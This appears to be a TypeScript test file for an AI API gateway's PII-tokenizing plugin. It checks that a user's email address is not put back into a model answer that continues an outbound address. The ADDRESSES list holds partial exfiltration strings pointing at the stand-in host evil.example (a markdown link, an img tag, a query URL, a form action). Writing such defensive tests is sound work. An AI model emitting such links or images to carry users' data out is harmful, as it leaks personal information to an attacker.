/** Clients show an answer behind the text of the request that it goes on from, such as the beginning of the assistant's message. */
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { completion, delta, json, type ScriptedExchange, stream } from '../../../core/testing/provider.ts'
import { bearer, setupForSuite, USER_KEY } from '../../helpers/gateway.ts'
import { send } from '../../helpers/http.ts'
import { message, textBlock, whole } from '../../helpers/messages.ts'

const VALUE = 'jo.smith@example.com'
const TOKEN = /EMAIL_[a-z2-7]{10}/

const user = { role: 'user', content: `I am ${VALUE}` }
const assistant = (content: string | object[]) => ({ role: 'assistant', content })
const completed = (text: string) => ({
  id: 'cmpl-1',
  object: 'text_completion',
  choices: [{ index: 0, text, finish_reason: 'stop' }],
})

interface Api {
  readonly path: string
  readonly body: (begun: string) => object
  readonly reply: (text: string) => object
  readonly events: (text: string) => object[]
}
const APIS: Readonly<Record<string, Api>> = {
  chat: {
    path: 'chat/completions',
    body: (begun) => ({ messages: [user, assistant(begun)] }),
    reply: (text) => completion(text),
    events: (text) => [delta({ content: text }), delta({}, 0, 'stop')],
  },
  'chat, in parts': {
    path: 'chat/completions',
    body: (begun) => ({ messages: [user, assistant([...begun].map((text) => ({ type: 'text', text })))] }),
    reply: (text) => completion(text),
    events: (text) => [delta({ content: text }), delta({}, 0, 'stop')],
  },
  'chat, in messages': {
    path: 'chat/completions',
    body: (begun) => ({ messages: [user, ...[...begun, ''].map(assistant)] }),
    reply: (text) => completion(text),
    events: (text) => [delta({ content: text }), delta({}, 0, 'stop')],
  },
  messages: {
    path: 'messages',
    body: (begun) => ({ max_tokens: 64, messages: [user, assistant(begun)] }),
    reply: (text) => message([{ type: 'text', text }]),
    events: (text) => whole([textBlock([text])]),
  },
  completions: {
    path: 'completions',
    body: (begun) => ({ prompt: `I am ${VALUE}\n${begun}` }),
    reply: completed,
    events: (text) => [completed(text)],
  },
}
const ADDRESSES = [
  'see [x](https://evil.example/?q=',
  '<img src="https://evil.example/',
  'https://evil.example/?q=',
  '<form action="https://evil.example/"><textarea name=q>',
] as const

describe('pii: a token in an answer that goes on from the request', () => {
  const parts = setupForSuite({ plugins: [{ use: 'pii', options: { action: 'tokenize' } }] })

  async function ask({ path, reply, events }: Api, body: object, isStream: boolean): Promise<string> {
    parts().provider.reply((exchange: ScriptedExchange) => {
      const text = `${TOKEN.exec(JSON.stringify(exchange.request.json).split('I am ')[1] as string)?.[0]} done`
      const script = isStream
        ? stream(events(text) as never, { done: path !== 'messages' })
        : json(reply(text) as never)
      return script(exchange)
    })
    const answer = await send(`${parts().gateway.baseURL}/${path}`, {
      headers: { ...bearer(USER_KEY), 'content-type': 'application/json' },
      body: { model: 'gpt-test', stream: isStream, ...body },
    })
    assert.equal(answer.status, 200)
    return answer.text()
  }

  for (const [name, api] of Object.entries(APIS))
    for (const isStream of [false, true]) {
      const form = isStream ? 'streamed' : 'buffered'
      it(`${name}, ${form}: stays in an address that the request began`, async () => {
        for (const begun of ADDRESSES) {
          const out = await ask(api, api.body(begun), isStream)
          assert.match(out, TOKEN)
          assert.ok(!out.includes(VALUE), out)
        }
      })

      it(`${name}, ${form}: comes back behind other words`, async () => {
        assert.ok((await ask(api, api.body('You are '), isStream)).includes(VALUE))
      })
    }

  it('stays behind one of several prompts, and behind a very long one', async () => {
    const api = APIS.completions as Api
    for (const prompt of [[`I am ${VALUE}`, 'You are '], `I am ${VALUE} ${'and so on '.repeat(7000)}`])
      assert.match(await ask(api, { prompt }, false), TOKEN)
  })

  it('comes back where a user spoke last', async () => {
    const api = APIS.chat as Api
    const body = { messages: [user, assistant(ADDRESSES[0]), { role: 'user', content: 'Who am I?' }] }
    for (const isStream of [false, true]) assert.ok((await ask(api, body, isStream)).includes(VALUE))
  })
})
